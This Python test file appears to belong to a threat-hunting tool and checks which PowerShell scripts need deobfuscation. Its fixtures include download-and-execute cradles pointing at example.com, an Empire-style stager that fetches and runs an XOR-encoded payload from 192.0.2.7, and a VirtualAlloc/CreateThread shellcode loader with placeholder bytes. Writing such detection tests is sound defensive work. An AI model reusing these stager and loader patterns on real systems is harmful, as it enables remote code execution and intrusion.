"""Which scripts are worth evaluating."""

from random import Random

import pytest

from app.hunting.deobfuscate import needs
from tests.hunting.deobfuscate.obfuscate import TECHNIQUES, cradle, obfuscate

# Encoded commands are decoded, not evaluated; the others leave the script as readable as it was.
READABLE = {
    "encoded_command",
    "started_process",
    "random_case",
    "nested_command",
    "script_block_text",
    "standard_input",
}
EMPIRE = (
    "$WC=NeW-OBJect SyStEM.NEt.WeBCLIENt;$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0)"
    " like Gecko';$wC.HeaDERS.AdD('User-Agent',$u);$wC.PROXY=[SYSTEM.Net.WeBREQuesT]::DEFAulTWEBPROXy;"
    "$K='+Kylpr(IGJF}C_2qd/=]s3Zfe;P<*H';$i=0;[CHar[]]$B=([CHar[]]($wc.DownloadString("
    "'http://192.0.2.7:80/index.asp')))|%{$_-BXor$k[$i++%$k.LeNgth]};IEX ($B-joIn'')"
)
SHELLCODE = (
    "$c='[DllImport(\"kernel32.dll\")]public static extern IntPtr VirtualAlloc(IntPtr a,uint b,uint c);';"
    "$w=Add-Type -memberDefinition $c -Name 'Win32' -namespace Win32Functions -passthru;[Byte[]]$z="
    + ",".join(["0xfc", "0xe8", "0x82"] * 100)
    + ";$g=0x1000;if($z.Length -gt 0x1000){$g=$z.Length};$x=$w::VirtualAlloc(0,$g,0x3000,0x40);"
    "for($i=0;$i -le ($z.Length-1);$i++){$w::memset([IntPtr]($x.ToInt32()+$i),$z[$i],1)};"
    "$w::CreateThread(0,0,$x,0,0,0);for(;;){Start-sleep 60};"
)


@pytest.mark.parametrize(
    "script",
    [
        '(New-Object System.Net.WebClient).DownloadFile(\'http://example.com/a.exe\',"$env:APPDATA\\a.exe");Start-Process ("$env:APPDATA\\a.exe")',
        "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
        "C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule",
        "Get-ChildItem C:\\Users -Recurse | Where-Object { $_.Length -gt 1kb } | Sort-Object Name",
        "if([IntPtr]::Size -eq 4){$b='powershell.exe'}else{$b=$env:windir+'\\syswow64\\powershell.exe'}",
        EMPIRE,
        SHELLCODE,
    ],
)
def test_plain_scripts_need_nothing(script: str) -> None:
    assert not needs(script.encode("utf-8", "replace"))


@pytest.mark.parametrize("technique", sorted(TECHNIQUES.keys() - READABLE))
def test_obfuscated_scripts_are_recognised(technique: str) -> None:
    for seed in range(10):
        rng = Random(f"{technique} {seed}")
        script = cradle("http://example.com/a.ps1", rng)
        hidden = obfuscate(script, [technique], rng)
        assert needs(hidden.encode()) or hidden == script, hidden
